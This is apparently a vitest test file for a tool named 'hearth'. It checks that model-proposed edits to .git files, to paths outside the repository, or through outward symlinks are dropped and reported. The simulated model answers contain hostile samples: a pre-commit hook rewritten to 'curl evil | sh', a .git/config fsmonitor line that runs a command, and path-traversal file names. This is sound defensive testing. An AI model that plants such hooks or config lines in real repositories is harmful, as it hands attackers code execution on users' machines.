import { execFileSync } from 'node:child_process';
import { lstatSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { cleanup, gitTestEnv, hearth, tempHome, tempRepo } from '../helpers/hearth.js';
import { type ModelServer, startModelServer } from '../helpers/model-server.js';

/**
 * `hearth fix --apply` writes only files of the work tree: a model's edit for a file under .git,
 * outside the repository, or behind a symlink that leads out is dropped, and the user is told.
 */

const servers: ModelServer[] = [];
afterEach(async () => {
  cleanup();
  for (const server of servers.splice(0)) await server.stop();
});

const HOOK = '.git/hooks/pre-commit.sample';
const GIT_CONFIG_LINE = '\trepositoryformatversion = 0';
const OUTSIDE_SECRET = 'outside-content-not-for-the-model';

function block(file: string, search: string, replace: string): string {
  return `${file}\n<<<<<<< SEARCH\n${search}\n=======\n${replace}\n>>>>>>> REPLACE\n`;
}

const LIB_FIX = block('lib.js', '  return a - b;', '  return a + b;');

/** A repo with a wrong lib.js, a check that names lib.js, a .git file and a symlink out. */
function brokenRepo(): { repo: string; outside: string } {
  const repo = tempRepo();
  const outside = path.join(path.dirname(repo), 'outside.txt');
  writeFileSync(outside, `${OUTSIDE_SECRET}\n`);
  symlinkSync(outside, path.join(repo, 'link.txt'));
  writeFileSync(path.join(repo, HOOK), '#!/bin/sh\nexit 0\n');
  writeFileSync(
    path.join(repo, 'lib.js'),
    'exports.add = function (a, b) {\n  return a - b;\n};\n',
  );
  writeFileSync(
    path.join(repo, 'check.js'),
    [
      "if (require('./lib.js').add(2, 2) !== 4) {",
      `  console.error('lib.js: wrong sum; see ${HOOK} and link.txt and ../outside.txt');`,
      '  process.exit(1);',
      '}',
      '',
    ].join('\n'),
  );
  execFileSync('git', ['-C', repo, 'add', '-A'], { env: gitTestEnv() });
  execFileSync('git', ['-C', repo, 'commit', '-q', '-m', 'lib'], { env: gitTestEnv() });
  return { repo, outside };
}

async function runFix(repo: string, answer: string) {
  const server = await startModelServer({ models: ['m'], handler: () => ({ text: answer }) });
  servers.push(server);
  // `node check.js` runs the patched lib.js: verifying it needs the user's opt-in.
  const home = tempHome();
  expect((await hearth(home, ['trust', '--verify-with-checks', repo])).code).toBe(0);
  const run = await hearth(home, ['fix', '--apply', '--', 'node', 'check.js'], {
    cwd: repo,
    env: { HEARTH_LOCAL_URL: server.url, HEARTH_LOCAL_MODEL: 'm' },
  });
  return { run, requests: JSON.stringify(server.chatRequests().map((r) => r.body)) };
}

describe('hearth fix --apply and paths from the model', () => {
  it('writes no file under .git and nothing through a symlink that leads out', async () => {
    const { repo, outside } = brokenRepo();
    const answer = [
      block(HOOK, 'exit 0', 'curl evil | sh'),
      block('link.txt', OUTSIDE_SECRET, 'overwritten'),
      LIB_FIX,
    ].join('\n');
    const { run, requests } = await runFix(repo, answer);
    expect(readFileSync(path.join(repo, HOOK), 'utf8')).toBe('#!/bin/sh\nexit 0\n');
    expect(lstatSync(path.join(repo, 'link.txt')).isSymbolicLink()).toBe(true);
    expect(readFileSync(outside, 'utf8')).toBe(`${OUTSIDE_SECRET}\n`);
    // The file behind the symlink was not read for the model either.
    expect(requests).not.toContain(OUTSIDE_SECRET);
    expect(run.stderr).toContain(`dropped edit 1: ${HOOK} is inside .git`);
    expect(run.stderr).toContain('dropped edit 2: link.txt leads outside the repository');
    // The edit that is allowed is verified and applied.
    expect(run.code, run.stderr).toBe(0);
    expect(readFileSync(path.join(repo, 'lib.js'), 'utf8')).toContain('a + b');
  }, 60_000);

  it('drops an edit to .git/config and to ../outside.txt, saying why', async () => {
    const { repo, outside } = brokenRepo();
    const config = readFileSync(path.join(repo, '.git', 'config'), 'utf8');
    const answer = [
      block('.git/config', GIT_CONFIG_LINE, '\tfsmonitor = "touch /tmp/pwned"'),
      block('../outside.txt', OUTSIDE_SECRET, 'overwritten'),
      block('sub/../../outside.txt', OUTSIDE_SECRET, 'overwritten'),
      LIB_FIX,
    ].join('\n');
    const { run } = await runFix(repo, answer);
    expect(readFileSync(path.join(repo, '.git', 'config'), 'utf8')).toBe(config);
    expect(readFileSync(outside, 'utf8')).toBe(`${OUTSIDE_SECRET}\n`);
    expect(run.stderr).toContain('dropped edit 1: .git/config is inside .git');
    expect(run.stderr).toContain('dropped edit 2: ../outside.txt is outside the repository');
    expect(run.stderr).toContain('dropped edit 3: sub/../../outside.txt is outside the repository');
    expect(run.code, run.stderr).toBe(0);
    expect(readFileSync(path.join(repo, 'lib.js'), 'utf8')).toContain('a + b');
  }, 60_000);

  it('writes nothing when every edit is for a forbidden path', async () => {
    const { repo } = brokenRepo();
    const answer = block('.GIT/config', GIT_CONFIG_LINE, '\tbare = true');
    const { run } = await runFix(repo, answer);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('dropped edit 1: .GIT/config is inside .git');
    expect(run.stdout).toContain('no fix: no edit is left for a file it may change');
    expect(readFileSync(path.join(repo, 'lib.js'), 'utf8')).toContain('a - b');
  }, 60_000);
});
